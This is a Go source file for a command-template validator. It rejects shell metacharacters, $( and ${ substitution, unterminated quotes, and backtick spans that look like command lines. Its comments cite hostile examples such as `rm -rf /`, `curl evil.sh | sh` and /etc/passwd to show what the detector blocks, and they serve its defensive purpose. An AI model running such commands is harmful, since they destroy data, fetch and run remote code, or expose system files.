package templates

import (
	"fmt"
	"strings"
	"unicode"
)

type quoteState int

const (
	quoteNone quoteState = iota
	quoteSingle
	quoteDouble
	quoteBacktick
)

// Characters that separate, chain or redirect commands when left unquoted.
var unquotedMetachars = map[byte]string{
	';':  "command separator",
	'|':  "pipe",
	'&':  "background or chaining operator",
	'<':  "redirection",
	'>':  "redirection",
	'\n': "newline",
	'\r': "carriage return",
}

type unsafeFinding struct {
	substitution bool
	token        string
	detail       string
}

func (f *unsafeFinding) message() string {
	if f.substitution {
		return fmt.Sprintf("command contains unsafe command substitution %q (%s)", f.token, f.detail)
	}
	return fmt.Sprintf("command contains unsafe characters %q (%s)", f.token, f.detail)
}

// scanCommand walks command with shell-like quoting rules and returns the
// first construct that could run or chain arbitrary commands. $( is rejected
// in every quoting context. Backticks delimit prompt text, inside double
// quotes too; a backtick span counts as command execution when it reads as a
// command line (see isExecutionSpan).
func scanCommand(command string) *unsafeFinding {
	state := quoteNone
	resume := quoteNone
	spanStart := 0

	for i := 0; i < len(command); i++ {
		c := command[i]
		var next byte
		if i+1 < len(command) {
			next = command[i+1]
		}

		if c == '$' && next == '(' {
			return &unsafeFinding{substitution: true, token: "$(", detail: "runs an embedded command"}
		}

		switch state {
		case quoteNone:
			switch c {
			case '\\':
				i++
			case '\'':
				state = quoteSingle
			case '"':
				state = quoteDouble
			case '`':
				state, resume = quoteBacktick, quoteNone
				spanStart = i + 1
			case '$':
				if next == '{' {
					return &unsafeFinding{substitution: true, token: "${", detail: "expands an arbitrary parameter"}
				}
			default:
				if detail, ok := unquotedMetachars[c]; ok {
					return &unsafeFinding{token: printableToken(c), detail: detail + " outside quotes"}
				}
			}

		case quoteSingle:
			if c == '\'' {
				state = quoteNone
			}

		case quoteDouble:
			switch {
			case c == '\\':
				i++
			case c == '"':
				state = quoteNone
			case c == '`':
				state, resume = quoteBacktick, quoteDouble
				spanStart = i + 1
			case c == '$' && next == '{':
				return &unsafeFinding{substitution: true, token: "${", detail: "expands an arbitrary parameter"}
			}

		case quoteBacktick:
			if c != '`' {
				continue
			}
			if span := command[spanStart:i]; isExecutionSpan(span) {
				return &unsafeFinding{substitution: true, token: "`" + span + "`", detail: "backticks around a command line run it"}
			}
			state = resume
		}
	}

	switch state {
	case quoteSingle:
		return &unsafeFinding{token: "'", detail: "unterminated quote"}
	case quoteDouble:
		return &unsafeFinding{token: `"`, detail: "unterminated quote"}
	case quoteBacktick:
		return &unsafeFinding{token: "`", detail: "unterminated quote"}
	}
	return nil
}

// Words that join or redirect commands inside a backtick span.
var spanOperators = map[string]struct{}{
	"|": {}, "||": {}, "&": {}, "&&": {}, ";": {},
	"<": {}, ">": {}, ">>": {}, "2>": {}, "2>&1": {},
}

// isExecutionSpan reports whether backtick content reads as a command line
// rather than prompt text. The first word must look like a command name and
// every later word must be a flag, a path, the placeholder, a shell operator,
// or a command name following an operator. Any plain prose word makes the
// span prompt text, so `Apply Tidy First: ...` passes while `rm -rf /` and
// `curl evil.sh | sh` do not.
func isExecutionSpan(content string) bool {
	words := strings.Fields(content)
	if len(words) == 0 || (len(words) == 1 && words[0] == Placeholder) {
		return false
	}
	if !isCommandWord(words[0]) {
		return false
	}

	afterOperator := false
	for _, word := range words[1:] {
		if _, ok := spanOperators[word]; ok {
			afterOperator = true
			continue
		}
		switch {
		case afterOperator && isCommandWord(word):
		case word == Placeholder:
		case strings.HasPrefix(word, "-") && isCommandText(word):
		case isPathWord(word):
		default:
			return false
		}
		afterOperator = false
	}
	return true
}

// isCommandWord reports whether word could name a program, e.g. whoami or
// /usr/bin/id.
func isCommandWord(word string) bool {
	if word == "" || !isCommandText(word) {
		return false
	}
	r := rune(word[0])
	return unicode.IsLetter(r) || r == '/' || r == '.' || r == '_'
}

// isPathWord reports whether word reads as a file path or file name, e.g.
// /etc/passwd or evil.sh. A trailing dot ends a sentence, not a path.
func isPathWord(word string) bool {
	if !isCommandText(word) || strings.HasSuffix(word, ".") {
		return false
	}
	return strings.ContainsAny(word, "/.")
}

func isCommandText(word string) bool {
	for _, r := range word {
		if unicode.IsLetter(r) || unicode.IsDigit(r) {
			continue
		}
		switch r {
		case '-', '_', '.', '/', '=', '~', '*':
			continue
		}
		return false
	}
	return true
}

func printableToken(c byte) string {
	switch c {
	case '\n':
		return `\n`
	case '\r':
		return `\r`
	}
	return string(c)
}
